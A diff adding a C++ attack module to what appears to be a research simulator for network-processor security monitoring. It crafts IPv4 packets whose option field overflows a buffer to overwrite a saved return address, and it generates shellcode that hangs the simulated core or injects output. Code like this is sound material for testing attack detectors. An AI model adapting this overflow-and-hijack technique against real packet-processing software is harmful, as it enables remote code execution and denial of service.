@@ -1,0 +1,111 @@
+#include "attack/attack.hpp"
+
+#include <sstream>
+
+#include "isa/assembler.hpp"
+#include "net/apps.hpp"
+#include "net/packet.hpp"
+#include "np/memmap.hpp"
+
+namespace sdmmon::attack {
+
+CmAttackPacket craft_cm_redirect(std::uint32_t target_addr,
+                                 std::span<const std::uint8_t> payload) {
+  // Header: IHL = 15 (60 bytes) leaves 40 option bytes -- enough for a CM
+  // TLV whose data reaches past the 28-byte distance to the saved $ra.
+  constexpr std::size_t kOptionData = 38;  // TLV = 40 = all option space
+
+  net::Ipv4Option option;
+  option.type = net::kCmOptionType;
+  option.data.assign(kOptionData, 0x00);
+  // Bytes [28..31] of the copied data overwrite the saved return address
+  // (little-endian, as the core stores words).
+  option.data[net::kCmRaOffset + 0] = static_cast<std::uint8_t>(target_addr);
+  option.data[net::kCmRaOffset + 1] =
+      static_cast<std::uint8_t>(target_addr >> 8);
+  option.data[net::kCmRaOffset + 2] =
+      static_cast<std::uint8_t>(target_addr >> 16);
+  option.data[net::kCmRaOffset + 3] =
+      static_cast<std::uint8_t>(target_addr >> 24);
+
+  net::Ipv4Packet ip;
+  ip.src = net::ip(203, 0, 113, 66);
+  ip.dst = net::ip(192, 0, 2, 1);
+  ip.ttl = 64;
+  ip.protocol = 17;
+  ip.options.push_back(std::move(option));
+  ip.payload.assign(payload.begin(), payload.end());
+
+  CmAttackPacket result;
+  result.packet = ip.to_bytes();
+  result.shellcode_addr = target_addr;
+  return result;
+}
+
+CmAttackPacket craft_cm_overflow(std::span<const std::uint32_t> shellcode) {
+  const std::uint32_t shellcode_addr = np::kPktInBase + 60;
+  util::Bytes payload(shellcode.size() * 4);
+  for (std::size_t i = 0; i < shellcode.size(); ++i) {
+    util::store_le32(shellcode[i], payload.data() + 4 * i);
+  }
+  return craft_cm_redirect(shellcode_addr, payload);
+}
+
+std::vector<std::uint32_t> assemble_shellcode(const std::string& source) {
+  isa::Program p = isa::assemble(source);
+  if (!p.data.empty()) {
+    throw isa::IsaError("shellcode must be position-independent text only");
+  }
+  return p.text;
+}
+
+std::vector<std::uint32_t> marker_shellcode(std::uint32_t marker) {
+  std::ostringstream os;
+  os << "    li $v0, " << marker << "\n"
+     << "    li $t2, 0xFFFF0008\n"   // PKT_DONE
+     << "    sw $zero, 0($t2)\n";
+  return assemble_shellcode(os.str());
+}
+
+std::vector<std::uint32_t> spin_shellcode() {
+  return assemble_shellcode("spin:\n    b spin\n");
+}
+
+std::vector<std::uint32_t> inject_output_shellcode(std::uint8_t fill,
+                                                   std::uint32_t length) {
+  std::ostringstream os;
+  os << "    li $t0, 0x40000\n"
+     << "    li $t1, " << static_cast<int>(fill) << "\n"
+     << "    li $t2, " << length << "\n"
+     << "    move $t3, $zero\n"
+     << "floop:\n"
+     << "    addu $t4, $t0, $t3\n"
+     << "    sb $t1, 0($t4)\n"
+     << "    addiu $t3, $t3, 1\n"
+     << "    bne $t3, $t2, floop\n"
+     << "    li $t5, 0xFFFF0004\n"   // PKT_OUT_COMMIT
+     << "    sw $t2, 0($t5)\n";
+  return assemble_shellcode(os.str());
+}
+
+util::Bytes benign_cm_packet(std::uint8_t congestion_level) {
+  net::Ipv4Option option;
+  option.type = net::kCmOptionType;
+  option.data.assign(8, 0);
+  option.data[0] = congestion_level;
+
+  net::Ipv4Packet ip;
+  ip.src = net::ip(198, 51, 100, 7);
+  ip.dst = net::ip(192, 0, 2, 9);
+  ip.ttl = 33;
+  ip.protocol = 17;
+  ip.options.push_back(std::move(option));
+  net::UdpDatagram udp;
+  udp.src_port = 5000;
+  udp.dst_port = 7;
+  udp.payload = util::bytes_of("congestion-managed datagram");
+  ip.payload = udp.to_bytes();
+  return ip.to_bytes();
+}
+
+}  // namespace sdmmon::attack
